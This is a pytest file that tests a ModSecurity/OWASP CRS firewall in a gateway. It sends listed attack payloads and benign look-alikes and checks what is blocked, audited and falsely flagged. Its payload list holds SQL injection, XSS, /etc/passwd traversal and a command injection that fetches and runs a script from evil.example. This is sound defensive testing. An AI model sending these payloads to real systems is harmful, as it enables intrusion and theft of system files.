"""The WAF (ModSecurity + OWASP CRS) through a real gateway: classic payloads blocked in every
part of the request, benign look-alikes passed; the false-positive rate is printed."""

import json
import urllib.parse

import pytest
from helpers import audit_lines, raw_request, run_gateway

ATTACKS = [
    ("sqli query", "GET", "/search?q=" + urllib.parse.quote("1' OR '1'='1"), {}, None),
    ("sqli union", "GET", "/search?q=" + urllib.parse.quote("1 UNION SELECT password FROM users--"), {}, None),
    (
        "sqli json body",
        "POST",
        "/api/items",
        {"Content-Type": "application/json"},
        json.dumps({"name": "x", "filter": "1' OR 1=1 --"}).encode(),
    ),
    ("xss query", "GET", "/page?msg=" + urllib.parse.quote("<script>alert(document.cookie)</script>"), {}, None),
    (
        "xss body",
        "POST",
        "/api/comments",
        {"Content-Type": "application/json"},
        json.dumps({"text": "<img src=x onerror=alert(1)>"}).encode(),
    ),
    ("traversal query", "GET", "/files?name=" + urllib.parse.quote("../../../../etc/passwd"), {}, None),
    ("command injection", "GET", "/ping?host=" + urllib.parse.quote("8.8.8.8; cat /etc/passwd"), {}, None),
    (
        "command injection body",
        "POST",
        "/api/run",
        {"Content-Type": "application/x-www-form-urlencoded"},
        b"cmd=" + urllib.parse.quote_plus("$(curl http://evil.example/x.sh | sh)").encode(),
    ),
    ("xss header", "GET", "/x", {"Referer": "javascript:alert(1)//<script>alert(1)</script>"}, None),
    (
        "php injection",
        "GET",
        "/x?file=" + urllib.parse.quote("php://filter/convert.base64-encode/resource=index.php"),
        {},
        None,
    ),
]

BENIGN = [
    ("apostrophe name", "GET", "/search?q=" + urllib.parse.quote("O'Reilly books"), {}, None),
    (
        "sql words in prose",
        "POST",
        "/api/comments",
        {"Content-Type": "application/json"},
        json.dumps({"text": "Please select a plan and update your order from the menu"}).encode(),
    ),
    ("math", "GET", "/calc?expr=" + urllib.parse.quote("1+1=2"), {}, None),
    (
        "heart",
        "POST",
        "/api/comments",
        {"Content-Type": "application/json"},
        json.dumps({"text": "I <3 this"}).encode(),
    ),
    ("email", "GET", "/users?email=" + urllib.parse.quote("alice@example.com"), {}, None),
    ("dotted version", "GET", "/download?version=1.2.3&file=report.pdf", {}, None),
    (
        "semicolon text",
        "POST",
        "/api/notes",
        {"Content-Type": "application/json"},
        json.dumps({"note": "Buy milk; call Bob; pay rent"}).encode(),
    ),
    (
        "json numbers",
        "POST",
        "/api/items",
        {"Content-Type": "application/json"},
        json.dumps({"name": "chair", "price": 49.5, "tags": ["wood", "brown"]}).encode(),
    ),
    ("url param", "GET", "/redirect?next=" + urllib.parse.quote("/dashboard?tab=settings"), {}, None),
    ("hyphens and quotes", "GET", "/search?q=" + urllib.parse.quote('"state-of-the-art" widgets'), {}, None),
]


@pytest.fixture(scope="module")
def waf_gateway(tmp_path_factory, upstream):
    tmp = tmp_path_factory.mktemp("waf")
    config = {
        "upstreams": {"up": {"urls": [upstream.url]}},
        # login throttling off: its per-process memory counter is shared with other tests on this
        # worker, and these tests are about the WAF (the benign corpus posts a form login)
        "policies": {
            "audit": {"output": str(tmp / "audit.log")},
            "waf": {"mode": "block"},
            "rate_limit": {"enabled": False},
        },
        "routes": [
            {"path": "/*", "upstream": "up"},
            {"path": "/detect/*", "upstream": "up", "policies": {"waf": {"mode": "detect"}}},
            {"path": "/tuned/*", "upstream": "up", "policies": {"waf": {"exclude_rules": [932110]}}},
            # GraphQL: its argument values are inspected, not its text (which trips 932100 at PL1:
            # docs/waf.md), so no rule needs excluding here
            {"path": "/graphql", "upstream": "up", "policies": {"graphql": {}}},
            {"path": "/strict/*", "upstream": "up", "policies": {"waf": {"untyped_bodies": "refuse"}}},
            {"path": "/withfiles/*", "upstream": "up", "policies": {"waf": {"inspect_files": True}}},
            # CRS's content-type and charset policy off (920420, 920480): only body inspection
            # stands between a payload and the upstream
            {"path": "/open/*", "upstream": "up", "policies": {"waf": {"exclude_rules": [920420, 920480]}}},
            {
                "path": "/uploads/*",
                "upstream": "up",
                "policies": {
                    "waf": {"uninspected_types": ["image/png"], "content_types": ["multipart/form-data", "image/png"]}
                },
            },
        ],
    }
    with run_gateway(config, tmp) as g:
        yield g, tmp


def _send(port, method, target, headers, body):
    # a named Host, as real clients send (CRS scores a bare-IP Host as suspicious: rule 920350)
    base = {"Host": "api.example.com", "User-Agent": "Mozilla/5.0 (tests)", "Accept": "*/*"}
    return raw_request(port, method, target, {**base, **headers}, body)


@pytest.mark.parametrize("name,method,target,headers,body", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_classic_payloads_are_blocked(waf_gateway, name, method, target, headers, body):
    g, _ = waf_gateway
    r = _send(g.port, method, target, headers, body)
    assert r.status == 403, (name, r.status, r.body[:300])
    doc = r.json()
    assert doc["type"].endswith("/waf-blocked") and doc["rules"] and all(900000 < x < 950000 for x in doc["rules"])


def test_benign_look_alikes_pass_and_false_positive_rate(waf_gateway):
    g, _ = waf_gateway
    refused = [
        name
        for name, method, target, headers, body in BENIGN
        if _send(g.port, method, target, headers, body).status != 200
    ]
    rate = len(refused) / len(BENIGN)
    print(f"\nWAF false positives at paranoia 1: {len(refused)}/{len(BENIGN)} ({rate:.0%}) {refused}")
    # the one known false positive of CRS 3.3.4 at PL1 on this table: "…; call Bob" reads as a
    # Windows command (932110); docs/waf.md reports it, and exclude_rules tunes it away
    assert refused == ["semicolon text"]
    name, method, target, headers, body = next(b for b in BENIGN if b[0] == "semicolon text")
    assert _send(g.port, method, "/tuned" + target, headers, body).status == 200


def test_detect_mode_logs_without_blocking(waf_gateway):
    g, tmp = waf_gateway
    target = "/detect/search?q=" + urllib.parse.quote("1' OR '1'='1")
    r = _send(g.port, "GET", target, {"X-Request-Id": "waf-detect"}, None)
    assert r.status == 200
    line = next(x for x in audit_lines(tmp / "audit.log", "waf-detect") if x["request_id"] == "waf-detect")
    assert line["waf"]["blocked"] is False and 942100 in line["waf"]["rules"]


def test_blocks_are_audited_with_rule_ids(waf_gateway):
    g, tmp = waf_gateway
    r = _send(g.port, "GET", "/x?q=" + urllib.parse.quote("<script>alert(1)</script>"), {"X-Request-Id": "waf-b"}, None)
    assert r.status == 403
    line = next(x for x in audit_lines(tmp / "audit.log", "waf-b") if x["request_id"] == "waf-b")
    assert line["stopped_by"] == "waf" and line["reason"].startswith("waf rules 941100")


def test_the_waf_sees_the_normalised_path(waf_gateway):
    g, _ = waf_gateway
    # an encoded traversal never reaches the rules as a trick: the path is resolved first (or refused)
    r = _send(g.port, "GET", "/files/%2e%2e/%2e%2e/etc/passwd", {}, None)
    assert r.status in (400, 403)
